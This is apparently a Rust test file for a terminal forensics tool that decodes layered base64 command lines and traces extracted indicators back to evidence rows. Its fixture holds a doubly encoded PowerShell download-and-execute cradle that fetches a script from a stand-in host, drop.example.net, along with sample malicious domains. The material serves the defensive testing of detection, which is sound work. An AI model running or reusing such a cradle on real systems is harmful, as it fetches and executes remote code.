//! From an indicator in a decoded text back to the record of the evidence, with keys.

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;

use crate::driver::{Driver, Wanted};

/// The grid over three lines, the second of which hides a script inside a script.
fn hidden() -> (tempfile::TempDir, Driver) {
    let inner = STANDARD.encode("IEX (New-Object Net.WebClient).DownloadString('http://drop.example.net/a/init.ps1')");
    let outer = STANDARD.encode(format!("$b='{inner}'; iex ([Convert]::FromBase64String($b))"));
    let folder = tempfile::tempdir().unwrap();
    let path = folder.path().join("commands.csv");
    let text = format!("n,CommandLine\n1,whoami /all\n2,powershell -enc {outer}\n3,ping -n 1 10.0.0.1\n");
    std::fs::write(&path, text).unwrap();
    let mut driver = Driver::with(Wanted { size: (140, 30), ..Wanted::default() });
    driver.keys("o").text(path.to_str().unwrap()).keys("Enter l");
    (folder, driver)
}

#[test]
fn every_step_of_a_chain_is_listed_and_can_be_gone_to() {
    let (_folder, mut driver) = hidden();
    driver.keys("a b");
    let screen = driver.screen();
    assert!(screen.contains("decoded from commands  2 rows"), "{screen}");
    // The second row is the script inside the script.
    driver.keys("j c c").text("decoded_string").keys("Enter a i j");
    let screen = driver.screen();
    assert!(screen.contains("drop.example.net"), "{screen}");
    driver.keys(",");
    let screen = driver.screen();
    assert!(screen.contains("What this row was made of"), "{screen}");
    assert!(screen.contains("layer 2"), "{screen}");
    assert!(screen.contains("powershell -enc"), "{screen}");
    assert!(screen.contains("record 2") && screen.contains("commands.csv"), "{screen}");
    // The row itself, the layers above it, and then the command line.
    driver.keys("Down Down Down Enter");
    let screen = driver.screen();
    assert!(screen.contains("▌commands  3 rows") && screen.contains("view 1 of 3"), "{screen}");
    // The cursor stands in the very row.
    driver.keys("Enter");
    assert!(driver.screen().contains("Row 2"), "{}", driver.screen());
}

#[test]
fn one_key_goes_to_the_evidence_row_through_filters_and_sorts() {
    let (_folder, mut driver) = hidden();
    driver.keys("a i");
    driver.keys("c c").text("Observable").keys("Enter s s f").text("10.0.0.1").keys("Enter");
    let screen = driver.screen();
    assert!(screen.contains("1 row,"), "{screen}");
    driver.keys(".");
    let screen = driver.screen();
    assert!(screen.contains("commands  3 rows"), "{screen}");
    driver.keys("Enter");
    assert!(driver.screen().contains("Row 3"), "{}", driver.screen());
}

#[test]
fn the_evidence_is_opened_where_no_view_shows_the_row() {
    let (_folder, mut driver) = hidden();
    driver.keys("f").text("n = 2").keys("Enter a b .");
    assert!(driver.screen().contains("1 of 3 rows") && driver.screen().contains("view 1 of 2"), "{}", driver.screen());
    // Now its own view shows another row, so that the evidence has to be opened.
    driver.keys("Backspace f").text("n = 3").keys("Enter g t .");
    let screen = driver.screen();
    assert!(screen.contains("▌commands  3 rows") && screen.contains("view 3 of 3"), "{screen}");
    assert!(screen.contains("▐  2  powershell"), "{screen}");
}

#[test]
fn results_are_joined_back_by_row_and_undone_like_anything_else() {
    let (_folder, mut driver) = hidden();
    driver.keys("a b a r");
    let screen = driver.screen();
    assert!(screen.contains("commands + join-back  2 rows") && screen.contains("view 3 of 3"), "{screen}");
    driver.keys("c c").text("decoded_string").keys("Enter");
    assert!(driver.screen().contains("$b='"), "{}", driver.screen());
    driver.keys("u");
    let screen = driver.screen();
    assert!(screen.contains("view 2 of 2"), "{screen}");
    driver.keys("u a r");
    assert!(driver.screen().contains("were not made of rows"), "{}", driver.screen());
}

#[test]
fn a_pasted_report_is_swept_through_what_is_open() {
    let (_folder, mut driver) = hidden();
    driver.keys("a s");
    driver.event(casebook::app::Event::Paste("seen: 10[.]0[.]0[.]1\nand hxxp://never.example.org/x".to_owned()));
    driver.keys("Enter");
    let screen = driver.screen();
    assert!(screen.contains("10.0.0.1") && screen.contains("CommandLine"), "{screen}");
    assert!(screen.contains("never.example.org"), "{screen}");
}

#[test]
fn any_operation_can_be_chosen_and_filled_in() {
    let (_folder, mut driver) = hidden();
    driver.keys("a o").text("ip-in-range").keys("Enter").text("10.0.0.0/8").keys("Enter");
    assert!(driver.screen().contains("in_range"), "{}", driver.screen());
    driver.keys("g T a n");
    assert!(driver.screen().contains("offline, so nothing is asked"), "{}", driver.screen());
}

#[test]
fn one_key_goes_from_a_count_to_the_rows_that_it_counts() {
    let folder = tempfile::tempdir().unwrap();
    let path = folder.path().join("lines.csv");
    let lines = "time,text\n2026-03-04T02:10:00Z,to evil.example.net\n2026-03-04T02:20:00Z,from www.evil.example.net\n\
                 2026-03-04T03:10:00Z,evil[.]example[.]net it is\n2026-03-04T03:20:00Z,nothing\n";
    std::fs::write(&path, lines).unwrap();
    let mut driver = Driver::with(Wanted { size: (140, 30), ..Wanted::default() });
    driver.keys("o").text(path.to_str().unwrap()).keys("Enter l");
    // What extract-iocs counted are the cells that hold this very name.
    driver.keys("a o").text("extract-iocs").keys("Enter Tab Space Enter");
    let screen = driver.screen();
    assert!(screen.contains("indicators of lines  2 rows"), "{screen}");
    driver.keys(".");
    let screen = driver.screen();
    assert!(screen.contains("lines  2 of 4 rows"), "{screen}");
    assert!(screen.contains("text has dns evil.example.net"), "{screen}");
    // A sighting counts the names under it as well.
    driver.keys("u a s").text("evil[.]example[.]net").keys("Enter");
    // The indicators of before are open, too, so that it stands in three columns.
    assert!(driver.screen().contains("sweep  3 rows"), "{}", driver.screen());
    driver.keys("j j .");
    let screen = driver.screen();
    assert!(screen.contains("lines  3 of 4 rows") && screen.contains("text holds evil.example.net"), "{screen}");
    // An hour's count.
    driver.keys("u g r").text("1h").keys("Enter j .");
    let screen = driver.screen();
    assert!(screen.contains("lines  2 of 4 rows") && screen.contains("2026-03-04 03:00:00 to"), "{screen}");
    // A stacked value, as with Enter.
    driver.keys("u l v .");
    assert!(driver.screen().contains("lines  1 of 4 rows"), "{}", driver.screen());
}
